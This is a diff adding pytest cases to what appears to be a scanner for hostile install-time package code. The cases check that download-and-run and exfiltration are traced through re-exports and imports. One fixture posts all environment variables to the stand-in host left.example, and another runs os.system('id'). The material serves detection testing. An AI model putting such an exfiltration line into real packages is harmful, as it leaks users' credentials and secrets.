@@ -6,7 +6,7 @@ import pytest
 
 from fimci import readers, sides
 from fimci.look import take
-from fimci.model import Capability, Record
+from fimci.model import Capability, Record, Unread
 from fimci.reach import settled
 from fimci.snapshot import Entry
 
@@ -130,3 +130,90 @@ def test_many_functions_of_javascript_before_it_hide_none() -> None:
     end = 'async function main() { await fetched("/opt/tool"); cp.execFile("/opt/tool"); }\nmain();\n'
     files = {"package.json": SCRIPTS, "start.js": begin + others + end, "fetch.js": FETCH}
     assert {(name, phase) for _, name, _, phase in told(files)} == {("download-and-run", "install")}
+
+
+@pytest.mark.parametrize(
+    "between",
+    [
+        'module.exports = require("./fetch");\n',
+        'module.exports = { ...require("./fetch"), run: require("./run").run };\n',
+        'exports.fetched = require("./fetch").fetched;\n',
+        'const { fetched } = require("./fetch");\nmodule.exports = { fetched };\n',
+        'export * from "./fetch";\n',
+        'export { fetched } from "./fetch";\n',
+        'import { fetched } from "./fetch";\nexport { fetched };\n',
+        'tslib_1.__exportStar(require("./fetch"), exports);\n',
+        'Object.assign(exports, require("./fetch"));\n',
+    ],
+)
+def test_what_a_file_only_hands_on_is_followed(between: str) -> None:
+    start = 'const { fetched } = require("./lib");\nconst { run } = require("./run");\nfetched(1);\nrun(1);\n'
+    files = {"package.json": SCRIPTS, "start.js": start, "fetch.js": FETCH, "run.js": RUN, "lib.js": between}
+    assert {(name, phase) for _, name, _, phase in told(files)} == {("download-and-run", "install")}
+    files["lib.js"] = "exports.fetched = () => 1;\n"
+    assert told(files) == set()
+
+
+def test_files_that_hand_on_one_another_end() -> None:
+    start = 'const { fetched } = require("./a");\nfetched(1);\n'
+    ring = {"a.js": 'module.exports = require("./b");\n', "b.js": 'module.exports = require("./a");\n'}
+    assert told({"package.json": SCRIPTS, "start.js": start, **ring}) == set()
+
+
+@pytest.mark.parametrize(
+    ("package", "call"),
+    [
+        ("from .work import main", "from pkg import main\nmain()"),
+        ("from .work import *", "from pkg import main\nmain()"),
+        ("from .work import main as begin", "import pkg\npkg.begin()"),
+        ("", "from pkg.work import main\nmain()"),
+        ("", "import pkg.work\npkg.work.main()"),
+        ("", "import pkg.work as w\nw.main()"),
+    ],
+)
+def test_python_imports_its_own_modules_by_any_name(package: str, call: str) -> None:
+    files = {**PYTHON, "pkg/__init__.py": f"{package}\n", "pkg/start.py": f"{call}\n"}
+    assert ("pkg/work.py", "download-and-run", "fetch.py -> tool", "import") in told(files)
+    files["pkg/start.py"] = call.replace("main()", "main").replace("begin()", "begin") + "\n"
+    assert told(files) == set()
+
+
+def test_what_setup_imports_through_a_quiet_module_runs_at_installation() -> None:
+    files = {
+        "setup.py": "from setuptools import setup\nfrom pkg import __version__\nsetup(version=__version__)\n",
+        "pkg/__init__.py": "from .work import total\n__version__ = '1'\n",
+        "pkg/work.py": (
+            "import os, requests\nrequests.post('https://left.example/', json=dict(os.environ))\n"
+        ),
+    }
+    assert {(name, phase) for _, name, _, phase in told(files)} == {("exfiltration", "install")}
+
+
+def test_what_is_not_followed_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
+    files = {"package.json": SCRIPTS, "start.js": START["in a function"], "fetch.js": FETCH, "run.js": RUN}
+    entries = [entry(path, text) for path, text in files.items()]
+    records: list[Record] = take(entries, sides.recipe(code=True), readers.ALL)
+    assert not [r for r in settled(records, project=False) if isinstance(r, Unread)]
+    monkeypatch.setattr("fimci.called._WORK", -1)
+    found = [r for r in settled(records, project=False) if isinstance(r, Unread)]
+    assert [(r.path, r.part) for r in found] == [("start.js", "calls")]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "a.js",
+            "".join(f'const x{at} = require("./x{at}");\n' + f"x{at}.run();\n" * 500 for at in range(9))
+            + 'require("child_process");\n',
+        ),
+        (
+            "a/b.py",
+            "import os\nos.system('id')\n"
+            + "".join(f"from . import x{at}\n" + f"x{at}.run()\n" * 500 for at in range(9)),
+        ),
+    ],
+)
+def test_a_file_with_more_calls_than_are_followed_is_told(path: str, text: str) -> None:
+    found = take([entry(path, text)], sides.recipe(code=True), readers.ALL)
+    assert "more calls of other files than are followed" in {r.why for r in found if isinstance(r, Unread)}
